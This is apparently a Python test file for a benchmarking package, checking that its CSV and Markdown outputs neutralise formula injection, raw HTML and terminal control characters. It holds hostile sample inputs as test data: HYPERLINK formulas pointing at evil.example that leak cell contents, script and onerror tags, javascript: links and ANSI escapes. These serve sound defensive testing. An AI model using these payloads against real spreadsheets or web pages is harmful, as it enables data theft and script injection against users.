"""Output that other programs open (issue 24 item 5): CSV cells spreadsheets would execute, raw HTML
in Markdown, control characters on the terminal.

- every CSV the package writes goes through :func:`studybench.escaping.csv_writer` (checked on the
  source), and each writer, fed each dangerous first character (OWASP) in its text cells, writes
  cells a spreadsheet shows as text; numbers stay numbers; JSON Lines keeps the raw text;
- every Markdown the package writes escapes HTML, ``|``, line breaks and backticks in the fields it
  takes from runs, datasets and judges: a whole pipeline (eval, judge, report, consistency, leaderboard,
  guidance gap, export attempts) on a test set and a judge whose every string is hostile.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from _support import REPO, parent, sub
from typer.testing import CliRunner

from studybench.analysis.attempts import ATTEMPT_COLUMNS, write_attempts
from studybench.analysis.guidance_gap import render_guidance_gap
from studybench.analysis.leaderboard import Cell, LeaderboardRow, render_leaderboard
from studybench.cli import app
from studybench.escaping import CSV_TRIGGERS, csv_cell, md_cell, printable
from studybench.methods.exports import export_csv, load_layers
from studybench.testing.stub_judge import format_verdict
from studybench.testing.stub_server import Reply, start_stub_server
from studybench.testset.verification import kpverify

SRC = REPO / "src" / "studybench"

# ----------------------------------------------------------------------------- CSV: the rule

PREFIXES = [*CSV_TRIGGERS, " =", "  +", "\"=", "'@", "\n-", "\t=", "\" '="]
"""Every first character OWASP lists, and the same after leading whitespace and quotes."""


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_csv_cell_neutralises_every_dangerous_start(prefix: str) -> None:
    text = prefix + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 1e-9, True, None, "-3", "+2.5e-3", "-0.75", "-.5", "12", "plain text",
                                   "x = 1", "a-b", ""])
def test_numbers_and_harmless_text_are_kept(value: Any) -> None:
    assert csv_cell(value) == value if not isinstance(value, float) else csv_cell(value) is value


# ----------------------------------------------------------------------------- CSV: every writer


def _read(path: Path) -> str:
    """A CSV file's text as written (a carriage return inside a cell is not turned into a line feed)."""
    with open(path, encoding="utf-8", newline="") as f:
        return f.read()


def _attempts(text: str, tmp: Path) -> str:
    row = {c: (text if kind == "string" else 1 if kind == "int" else False) for c, kind in ATTEMPT_COLUMNS.items()}
    row["attempt"] = -1  # a negative number in a numeric column stays a number
    write_attempts([row], tmp / "a.csv", "csv")
    write_attempts([row], tmp / "a.jsonl", "jsonl")
    raw = json.loads((tmp / "a.jsonl").read_text())
    assert all(raw[c] == text for c, kind in ATTEMPT_COLUMNS.items() if kind == "string")  # JSON Lines: raw text
    return _read(tmp / "a.csv")


def _leaderboard(text: str, tmp: Path) -> str:
    cell = Cell(run_dir=text, par={"mean": 10.0, "std": 1.0}, sub={"mean": 20.0, "std": None}, delta_sub=-3.5)
    board = {"k": 1, "seeds": [0], "splits": ["transfer"], "significance": None,
             "rows": [LeaderboardRow(method=text, layer=text, base=text, is_base=False, cells={"transfer": cell})]}
    out = render_leaderboard(board, "csv")
    assert "\n" + csv_cell(text).replace('"', '""') in out or csv_cell(text) in next(csv.reader(io.StringIO(out.split("\n", 1)[1])))
    assert next(csv.DictReader(io.StringIO(out)))["transfer_delta_sub"] == "-3.5"  # the ΔSub number: unchanged
    return out


def _guidance_gap(text: str, tmp: Path) -> str:
    stat = {"mean": -1.5, "std": 0.5}
    row: dict[str, Any] = {f"{m}_{w}": stat for m in ("par", "sub") for w in ("solo", "guided", "gap")}
    row.update(method=text, headroom_closed_par=None, headroom_closed_sub=-0.25, base=False, complete=True, k=1,
               seeds=[0], scoring=text, solo_run=text, guided_run=text)
    return render_guidance_gap([row], "csv")


def _coverage_matrix(text: str, tmp: Path) -> str:
    subs = [{"key": text, "status": text, "kps": [{"kp_id": text}]}]
    return kpverify._matrix(subs, {text: {"status": text}}, [text], lambda k: k["status"])


def _agent_loop_csv(text: str, tmp: Path) -> str:
    rec = {"messages": [{"role": "user", "content": text}], "solution": "s", "answer": "\\boxed{-2}", "answer_type": "NV",
           "type_sequence": "", "metadata": {"source": text, "source_problem_id": text, "source_chapter": text,
                                              "sub_discipline": "Mechanics"}}
    (tmp / "train").mkdir()
    (tmp / "train" / "verifiable_instr.json").write_text(json.dumps([rec]))
    export_csv(tmp / "agent.csv", load_layers(tmp / "train", ["single"]), fractions=(0.0, 0.0, 1.0))
    return _read(tmp / "agent.csv")


CSV_WRITERS: dict[str, Callable[[str, Path], str]] = {
    "export attempts (analysis/attempts.py)": _attempts,
    "leaderboard --format csv (analysis/leaderboard.py)": _leaderboard,
    "guidance-gap --format csv (analysis/guidance_gap.py)": _guidance_gap,
    "build verify coverage matrices (testset/verification/kpverify.py)": _coverage_matrix,
    "export csv, the agent-loop CSV (methods/exports.py)": _agent_loop_csv,
}
"""One entry per CSV writer of the package (the next test keeps this list complete)."""


def _call_sites(name: str) -> list[str]:
    out = []
    for path in sorted(SRC.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                f = node.func
                called = f.attr if isinstance(f, ast.Attribute) else f.id if isinstance(f, ast.Name) else ""
                if called == name:
                    out.append(f"{path.relative_to(SRC)}:{node.lineno}")
    return out


def test_every_csv_the_package_writes_goes_through_the_one_rule() -> None:
    raw = [s for s in _call_sites("writer") + _call_sites("DictWriter") if not s.startswith("escaping.py")]
    assert raw == [], f"CSV written without studybench.escaping.csv_writer: {raw}"
    sites = {s.split(":")[0] for s in _call_sites("csv_writer") if not s.startswith("escaping.py")}
    covered = {re.search(r"\((.+?)\)$", name).group(1) for name in CSV_WRITERS}  # type: ignore[union-attr]
    assert sites == covered, f"CSV writers without a case in CSV_WRITERS: {sorted(sites - covered)}"


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
@pytest.mark.parametrize("writer", list(CSV_WRITERS))
def test_no_csv_writer_writes_a_cell_a_spreadsheet_executes(writer: str, prefix: str, tmp_path: Path) -> None:
    payload = prefix + 'HYPERLINK("http://evil.example/","x")'
    text = CSV_WRITERS[writer](payload, tmp_path)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    hits = [c for c in cells if "HYPERLINK" in c]
    assert hits and all(c == "'" + payload for c in hits), hits
    live = [c for c in cells if c and not c.startswith("'") and (c[0] in CSV_TRIGGERS or re.match(r"[ \t\r\n\"]*[=+\-@]", c))
            and not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", c)]  # a leading ' marks text
    assert live == [], live


# ----------------------------------------------------------------------------- Markdown and terminal: the rule

HOSTILE = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "a | b", "line\nbreak\r\nx", "`code` ``x``",
           "![t](http://evil.example/t.png)", "[link](javascript:alert(1))", "back\\|slash", "nul\x00esc\x1b[31m"]


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_md_cell_is_one_inert_table_cell(text: str) -> None:
    cell = md_cell(text)
    assert "\n" not in cell and "\r" not in cell and "<" not in cell and ">" not in cell
    assert not re.search(r"(?<!\\)(?:\\\\)*[|`\[\]]", cell), cell  # every | ` [ ] escaped by an odd number of backslashes
    assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in cell)


def test_printable_escapes_control_characters_only() -> None:
    assert printable("P\x001\x1b[2J\u202eé ok") == "P\\x001\\x1b[2J\\u202eé ok"
    assert printable("two\nlines\tx", newlines=True) == "two\nlines\tx" and printable("a\nb") == "a\\nb"


# ----------------------------------------------------------------------------- every field that reaches Markdown


def _hostile(field: str, newline: str = "\n") -> str:
    """A field value that tries everything: HTML, a table break, a line break, a code span, a link, a formula."""
    return f"={field}<script>alert(1)<img src=x onerror=alert(1)>|`{field}`{newline}![i](http://evil.example/{field}.png)"


SET = [parent(_hostile("spid"), [sub(_hostile("sub_a"), "\\boxed{2}", problem="Q1: speed?"),
                                 sub(_hostile("sub_b"), "\\boxed{3}", problem="Q2: mass?")],
              source=_hostile("source"), year=_hostile("year"), problem_type=_hostile("subdiscipline"),
              problem="A block slides.")]


def _judge_reply(body: dict[str, Any]) -> Reply:
    return Reply(format_verdict(False, justification=_hostile("justification")))  # Q2 stays unsolved: its ids are listed


def _model_reply(body: dict[str, Any]) -> Reply:
    return Reply("Final Answer: \\boxed{2}" if "Q1" in body["messages"][-1]["content"] else "Final Answer: \\boxed{4}")


def _cells(line: str) -> int:
    """The cells of a Markdown table row (``|`` not escaped by a backslash)."""
    return len(re.split(r"(?<!\\)\|", line.replace("\\\\", ""))) - 2


def _check_markdown(path: Path) -> None:
    """No raw HTML, no remote image or link, and every table row as wide as its table's header."""
    text = path.read_text(encoding="utf-8")
    assert "<script" not in text and "<img" not in text, path.name
    assert not re.search(r"(?<!\\)\]\(http", text), path.name  # an image or link needs an unescaped ](...)
    width = None
    for line in text.splitlines():
        if not line.startswith("|"):
            width = None
            continue
        if width is None:
            width = _cells(line)
        assert _cells(line) == width, (path.name, line)


@pytest.mark.slow  # end to end, tens of seconds under load: the CI step `pytest -m slow`
def test_every_markdown_the_package_writes_escapes_every_field(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                              make_set: Callable[..., Path]) -> None:
    monkeypatch.setenv("STUDYBENCH_JUDGE_CACHE", str(tmp_path / "cache"))
    split = make_set(SET)
    model, judge = _hostile("model"), _hostile("judge")
    runner = CliRunner()
    p = SET[0]
    hints = tmp_path / "guidance.jsonl"
    hints.write_text("".join(json.dumps({"source": p["source"], "year": p["year"], "source_problem_id": p["source_problem_id"],
                                         "problem_id": s["problem_id"], "guidance": "Use energy."}) + "\n"
                             for s in p["sub_problems"]))
    runs = []
    with start_stub_server(_model_reply, model=model) as srv, start_stub_server(_judge_reply, model=judge) as jsrv:
        for name, extra in (("a", []), ("b", ["--guidance", str(hints)])):
            run = tmp_path / name
            res = runner.invoke(app, ["eval", "--split", str(split), "--model", model, "--base-url", srv.base_url, "-k", "1",
                                      "--seeds", "1", "--out", str(run), "--verify-workers", "1",
                                      "--label", f"method={_hostile('method_' + name, ' ')}", "--judge-model", judge,
                                      "--judge-base-url", jsrv.base_url, *extra], catch_exceptions=False)
            assert res.exit_code == 0, res.output
            runs.append(run)
    res = runner.invoke(app, ["consistency", str(runs[0])], catch_exceptions=False)
    assert res.exit_code == 0, res.output
    written = [runs[0] / "report.md", runs[0] / "consistency.md"]
    for fmt, out in (("markdown", "board.md"), ("csv", "board.csv")):
        res = runner.invoke(app, ["leaderboard", str(runs[0]), str(runs[1]), "--format", fmt, "--out", str(tmp_path / out)],
                            catch_exceptions=False)
        assert res.exit_code == 0, res.output
    written.append(tmp_path / "board.md")
    res = runner.invoke(app, ["guidance-gap", "--solo", str(runs[0]), "--guided", str(runs[1]), "--out", str(tmp_path / "gap.md")],
                        catch_exceptions=False)
    assert res.exit_code == 0, res.output
    written.append(tmp_path / "gap.md")
    for md in written:
        _check_markdown(md)
    reaches = {runs[0] / "report.md": ("model", "method_a", "subdiscipline", "source", "year", "spid", "sub_b", "judge"),
               runs[0] / "consistency.md": ("model", "judge"), tmp_path / "board.md": ("method_a", "method_b"),
               tmp_path / "gap.md": ("method_a",)}
    for md, fields in reaches.items():
        text = md.read_text()
        for field in fields:  # each shown whole, as a Markdown viewer shows the original (line break: a space)
            assert (f"={field}&lt;script&gt;alert(1)&lt;img src=x onerror=alert(1)&gt;\\|\\`{field}\\` "
                    f"!\\[i\\](http://evil.example/{field}.png)") in text, (md.name, field)

    res = runner.invoke(app, ["export", "attempts", str(runs[0]), "--out", str(tmp_path / "attempts.csv")], catch_exceptions=False)
    assert res.exit_code == 0, res.output
    for csv_file in (tmp_path / "attempts.csv", tmp_path / "board.csv"):
        cells = [c for row in csv.reader(io.StringIO(csv_file.read_text())) for c in row]
        hostile = [c for c in cells if "alert(1)" in c]
        assert hostile and all(c.startswith("'=") for c in hostile), (csv_file.name, hostile[:3])
    res = runner.invoke(app, ["export", "attempts", str(runs[0]), "--out", str(tmp_path / "attempts.jsonl")], catch_exceptions=False)
    rows = [json.loads(x) for x in (tmp_path / "attempts.jsonl").read_text().splitlines()]
    assert any(r["llm_justification"].startswith("=justification<script>") for r in rows if r["llm_justification"])  # raw text
